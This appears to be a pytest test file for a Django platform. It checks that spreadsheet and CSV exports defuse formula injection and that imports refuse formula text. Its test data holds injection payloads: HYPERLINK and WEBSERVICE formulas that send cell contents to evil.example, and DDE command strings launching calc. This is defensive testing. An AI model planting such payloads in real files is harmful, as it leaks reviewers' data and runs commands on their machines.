"""Spreadsheet formula injection: every Excel and CSV file the platform writes keeps what people typed as text.

Units, applicants and the public type names, specialties, posts, unit names and findings; department and bureau
reviewers open the exported files in Excel or WPS. A value starting with = + - @ (or a tab / carriage return
before one) must never arrive as a live formula (``=HYPERLINK(...)``, ``=WEBSERVICE(...)``, DDE ``=cmd|...``).
"""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from zhicheng.applications.models import Application, Status
from zhicheng.core.demo import make_id_number
from zhicheng.documents.spreadsheets import FORMULA_TRIGGERS
from zhicheng.recommendations.models import ListStatus, RecommendationEntry, RecommendationList, TitleLevel
from zhicheng.supervision.models import IntegrityRecord

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1&B1,"点击查看")',
    '=WEBSERVICE("http://evil.example/"&C3)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def assert_no_formula(content: bytes):
    """Read the .xlsx back as Excel would: no formula cell, and no text cell that starts like one."""
    workbook = load_workbook(io.BytesIO(content))
    seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                seen += 1
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (sheet.title, cell.coordinate, cell.value)
    return seen


def cells_with(content: bytes, needle: str) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [c.value for s in workbook.worksheets for r in s.iter_rows() for c in r
            if isinstance(c.value, str) and needle in c.value]


def person(i: int) -> str:
    return make_id_number("530102", dt.date(1990, 1, 1) + dt.timedelta(days=i), i, i % 2 == 0)


@pytest.fixture
def hostile_world(world):
    """Entries, applications, a unit name and integrity records carrying formula text, as stored before the
    validators refused it (or as typed into free-text fields). Built by hand on purpose: the services refuse this
    text, so tests/factories.py cannot reach these rows."""
    from zhicheng.accounts.models import Role, User

    batch = world.batches["current"]
    unit = world.units["private"]
    unit.name = "=HYPERLINK(\"http://evil.example\",\"云南星辰\")"
    unit.save(update_fields=["name"])
    rec_list = RecommendationList.objects.create(unit=unit, batch=batch, status=ListStatus.SUBMITTED)
    for i, text in enumerate(HOSTILE, start=1):
        entry = RecommendationEntry.objects.create(
            recommendation_list=rec_list, real_name=text[:50], id_number=person(i), series="工程", specialty=text,
            level=TitleLevel.ZHULIJI, post=text)
        applicant = User.objects.create(username=f"h{i}", role=Role.APPLICANT, real_name=text[:50], id_number=person(i))
        Application.objects.create(batch=batch, applicant=applicant, unit=unit, recommendation_entry=entry,
                                   status=Status.RECOGNISED, series="工程", specialty=text,
                                   level=TitleLevel.ZHULIJI, recognised_on=dt.date(2026, 12, 1))
        IntegrityRecord.objects.create(name=text[:50], id_number=person(i), finding=text, decided_on=dt.date(2026, 1, 5),
                                       ban_until=dt.date(2029, 1, 4), district=world.districts["panlong"],
                                       unit=unit)
    return {"batch": batch, "list": rec_list}


def test_recommendation_list_export_writes_formulas_as_text(hostile_world, world, login):
    rec_list = hostile_world["list"]
    for user in ("unit_private", "bureau"):
        response = login(world.users[user]).get(reverse("recommendations:export", args=[rec_list.pk]))
        assert response.status_code == 200
        assert assert_no_formula(response.content) > 9 * 6
        # What the reviewer reads is what the unit typed, behind one apostrophe.
        assert "'=cmd|' /C calc'!A0" in cells_with(response.content, "calc")
        assert "'\t=1+1" in cells_with(response.content, "1+1")


def test_batch_results_export_writes_formulas_as_text(hostile_world, world, login):
    response = login(world.users["bureau"]).get(
        reverse("documents:batch_results_xlsx", args=[hostile_world["batch"].pk]))
    assert response.status_code == 200
    assert assert_no_formula(response.content) > 9 * 6
    assert any(v.startswith("'=HYPERLINK") for v in cells_with(response.content, "HYPERLINK"))


def test_upward_report_writes_formulas_as_text(hostile_world, world, login):
    url = reverse("documents:batch_upward_report", args=[hostile_world["batch"].pk])
    client = login(world.users["bureau"])
    xlsx = client.get(url + "?fmt=xlsx")
    assert xlsx.status_code == 200
    assert assert_no_formula(xlsx.content) > 9 * 6
    assert "'=cmd|' /C calc'!A0" in cells_with(xlsx.content, "calc")
    rows = list(csv.reader(io.StringIO(client.get(url + "?fmt=csv").content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and not any(c.startswith(FORMULA_TRIGGERS) for c in cells)


def test_statistics_exports_write_formulas_as_text(hostile_world, world, login):
    client = login(world.users["bureau"])
    with time_machine.travel("2026-12-02 10:00 +0800", tick=False):
        response = client.get(reverse("supervision:stats_export", args=[hostile_world["batch"].pk, "all"]))
    assert response.status_code == 200
    assert assert_no_formula(response.content) > 10
    assert cells_with(response.content, "HYPERLINK"), "the unit's name is in the per-unit table"


def test_integrity_record_exports_write_formulas_as_text(hostile_world, world, login):
    client = login(world.users["bureau"])
    xlsx = client.get(reverse("supervision:records_export", args=["xlsx"]))
    assert xlsx.status_code == 200
    assert assert_no_formula(xlsx.content) > 9 * 6
    response = client.get(reverse("supervision:records_export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 1 + len(HOSTILE)
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_TRIGGERS), value
    assert "'\r=1+1" in [r[0] for r in rows]


def test_templates_and_exports_of_ordinary_data_keep_numbers_and_dates(world, login):
    """The writer changes nothing else: the import template still opens with its example and notes."""
    response = login(world.users["unit_soe"]).get(reverse("recommendations:template"))
    assert assert_no_formula(response.content) > 20
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert sheet["B3"].value == "530103199803120030" and sheet["B3"].data_type == "s"


def test_import_refuses_formula_text_instead_of_trimming_it_into_one(world, login):
    """A cell "\\t=1+1" is not trimmed into "=1+1" and stored: the row is refused with a message."""
    from tests.recommendations.conftest import BEFORE_DEADLINE
    from tests.recommendations.test_excel import filled_template, row

    file = filled_template([row("甲", person(1), c3="\t=1+1"), row("\r=乙", person(2)),
                            row("丙", person(3), c5="@SUM(A1)")])
    client = login(world.users["unit_soe"])
    with time_machine.travel(BEFORE_DEADLINE, tick=False):
        response = client.post(reverse("recommendations:import", args=[world.batches["current"].pk]),
                               {"file": file})
    text = response.content.decode()
    assert response.status_code == 200 and "本次没有导入任何人员" in text
    for line, label in ((3, "申报专业"), (4, "姓名"), (5, "现从事岗位")):
        assert f"第 {line} 行" in text and f"“{label}”不能以 = + @ 开头" in text
    assert RecommendationEntry.objects.count() == 0
